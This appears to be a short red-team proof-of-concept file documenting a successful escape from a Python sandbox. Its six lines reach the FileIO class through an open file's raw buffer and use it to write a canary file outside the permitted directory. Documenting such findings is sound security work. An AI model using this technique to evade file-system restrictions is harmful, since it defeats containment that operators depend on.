# (d) same FileIO class used to create/write a file outside W; driver sees {CANARY}.pwned_fileio.txt created
# red team 2026-12-07, docs/redteam-2026-12-07/success_04_type_fileio_write.py.txt
f = open("seed.txt", "w")
FileIO = type(f.buffer.raw)
g = FileIO("{CANARY}.pwned_fileio.txt", "w")
g.write(b"pwned")
g.close()
